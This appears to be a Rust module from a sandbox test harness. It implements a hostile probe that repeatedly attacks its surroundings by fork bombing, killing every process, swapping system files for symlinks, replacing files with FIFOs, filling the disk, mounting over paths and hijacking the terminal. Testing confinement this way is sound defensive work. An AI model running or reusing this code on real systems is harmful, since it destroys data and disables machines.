//! A payload that attacks whatever it can reach, in one of several ways, until it is killed: `probe hostile WAY`. It says `ready` when it
//! has begun.

use crate::syscall::{Arg, Ret, call, fork, text};
use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::thread::sleep;
use std::time::Duration;

/// One way: its name, and what is done again and again.
type Way = (&'static str, fn(&mut Held));

const WAYS: &[Way] = &[
    ("swaps", |_| everything().iter().for_each(|path| swap(path))),
    ("makes FIFOs", |_| everything().iter().for_each(|path| replace_by_fifo(path))),
    ("locks", |held| everything().iter().for_each(|path| lock(path, held))),
    ("forks", |_| ignored(fork())),
    ("is deaf", |_| deafen()),
    ("stops", |_| stop()),
    ("kills", |_| ignored(call(libc::SYS_kill, [Arg::Int(-1), Arg::Int(libc::SIGKILL.into())]))),
    ("hides", |_| hide()),
    ("fills", |held| fill(held)),
    ("mounts", |_| everything().iter().for_each(|path| mount_over(path))),
    ("leaves its terminal", |_| leave_terminal()),
];

/// Descriptors that stay open, with the locks on them.
#[derive(Default)]
struct Held(Vec<File>);

/// More are not needed to be in the way.
const MOST: usize = 200;

/// Goes on until somebody ends it.
pub fn rage(way: &str) -> ! {
    let Some((_, strike)) = WAYS.iter().find(|(name, _)| *name == way) else {
        eprintln!("probe: no way `{way}`");
        std::process::exit(2)
    };
    let mut held = Held::default();
    let mut said = false;
    loop {
        strike(&mut held);
        if !said {
            println!("ready");
            ignored(std::io::stdout().flush());
            said = true;
        }
        sleep(Duration::from_micros(200));
    }
}

/// Whether an attack succeeds shows on the host.
fn ignored<T, E>(_: Result<T, E>) {}

/// What lies in the directories that may be writable, and in those where a runtime keeps things; two levels, no links.
fn everything() -> Vec<PathBuf> {
    let named = ["TMPDIR", "XDG_RUNTIME_DIR", "STATE", "OUTSIDE"].into_iter().filter_map(std::env::var_os).map(PathBuf::from);
    let tops = named.chain([".", "..", "/tmp", "/dev", "/run", "/etc", "/bin"].map(PathBuf::from));
    let below =
        |dir: &PathBuf| fs::read_dir(dir).into_iter().flatten().flatten().map(|e| e.path()).take(MOST).collect::<Vec<_>>();
    let first: Vec<PathBuf> = tops.flat_map(|top| below(&top)).collect();
    let own = std::env::current_exe().unwrap_or_default();
    let all: Vec<PathBuf> = first.iter().filter(|p| !p.is_symlink() && p.is_dir()).flat_map(below).chain(first.clone()).collect();
    all.into_iter().filter(|path| *path != own).collect()
}

/// A link to somewhere else takes the place of what was there, and what was there takes it back.
fn swap(path: &Path) {
    let aside = path.with_extension("aside");
    if fs::rename(path, &aside).is_ok() {
        ignored(std::os::unix::fs::symlink("/etc", path));
        sleep(Duration::from_micros(50));
        ignored(fs::rename(&aside, path).or_else(|_| fs::remove_file(path).and_then(|()| fs::rename(&aside, path))));
    }
}

fn replace_by_fifo(path: &Path) {
    if path.is_file() && fs::remove_file(path).is_ok() {
        ignored(call(
            libc::SYS_mknod,
            [Arg::Text(&text(&path.to_string_lossy())), Arg::Int((libc::S_IFIFO | 0o666).into()), Arg::Int(0)],
        ));
    }
}

fn lock(path: &Path, held: &mut Held) {
    // Who wants to write breaks a lease, which is told by a signal (fcntl(2)).
    deafen();
    let Ok(file) = File::options().read(true).custom_flags(libc::O_NONBLOCK).open(path) else { return };
    let fd = || Arg::Int(file.as_raw_fd().into());
    let locked = call(libc::SYS_flock, [fd(), Arg::Int((libc::LOCK_EX | libc::LOCK_NB).into())]);
    let leased = call(libc::SYS_fcntl, [fd(), Arg::Int(libc::F_SETLEASE.into()), Arg::Int(libc::F_RDLCK.into())]);
    if (locked.is_ok() || leased.is_ok()) && held.0.len() < MOST {
        held.0.push(file);
    }
}

fn deafen() {
    ignored(call(libc::SYS_rt_sigprocmask, [Arg::Int(libc::SIG_SETMASK.into()), Arg::In(&[0xff; 8]), Arg::Null, Arg::Int(8)]));
}

/// With everybody in its group.
fn stop() {
    println!("ready");
    ignored(call(libc::SYS_kill, [Arg::Int(0), Arg::Int(libc::SIGSTOP.into())]));
}

fn hide() {
    deafen();
    ignored(call(libc::SYS_prctl, [Arg::Int(libc::PR_SET_DUMPABLE.into()), Arg::Int(0), Arg::Int(0), Arg::Int(0), Arg::Int(0)]));
}

/// Of the workspace nothing is left, neither a block nor an inode.
fn fill(held: &mut Held) {
    if let Ok(mut file) = File::create(format!("fill-{}", held.0.len()))
        && held.0.len() < MOST
    {
        (0..256).take_while(|_| file.write_all(&[0; 65536]).is_ok()).for_each(drop);
        held.0.push(file);
    }
}

fn mount_over(path: &Path) {
    const NEW: i64 = (libc::CLONE_NEWUSER | libc::CLONE_NEWNS) as i64;
    ignored(call(libc::SYS_unshare, [Arg::Int(NEW)]));
    let (kind, at) = (text("tmpfs"), text(&path.to_string_lossy()));
    ignored(call(libc::SYS_mount, [Arg::Text(&kind), Arg::Text(&at), Arg::Text(&kind), Arg::Int(0), Arg::Null]));
}

/// Nothing of it stays open but another one that it makes its own.
fn leave_terminal() {
    println!("ready");
    let fd = |n: i64| Arg::Int(n);
    (0..3).for_each(|n| ignored(call(libc::SYS_close, [fd(n)])));
    let made: Ret = call(libc::SYS_open, [Arg::Text(&text("/dev/ptmx")), Arg::Int((libc::O_RDWR | libc::O_NOCTTY).into())]);
    ignored(call(libc::SYS_setsid, [Arg::Null]));
    ignored(made.and_then(|master| call(libc::SYS_ioctl, [fd(master), Arg::Int(libc::TIOCSCTTY as i64), Arg::Int(1)])));
    ignored(call(libc::SYS_vhangup, [Arg::Null]));
}
